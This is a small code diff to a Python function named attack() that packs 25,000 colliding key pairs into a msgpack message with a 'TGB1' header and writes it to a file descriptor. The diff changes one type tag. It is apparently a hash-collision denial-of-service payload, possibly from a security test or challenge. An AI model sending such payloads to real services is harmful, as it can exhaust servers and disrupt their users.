@@ -31,7 +31,7 @@ def colliding(count):
 
 def attack():
     pairs = [[1, *pair] for pair in colliding(25_000)]
-    control = msgpack.packb([[2, "value", [3, *pairs]], []])
+    control = msgpack.packb([[4, "value", [3, *pairs]], []])
     data = struct.pack("<4sI", b"TGB1", len(control)) + control
     while data:
         data = data[os.write(3, data) :]
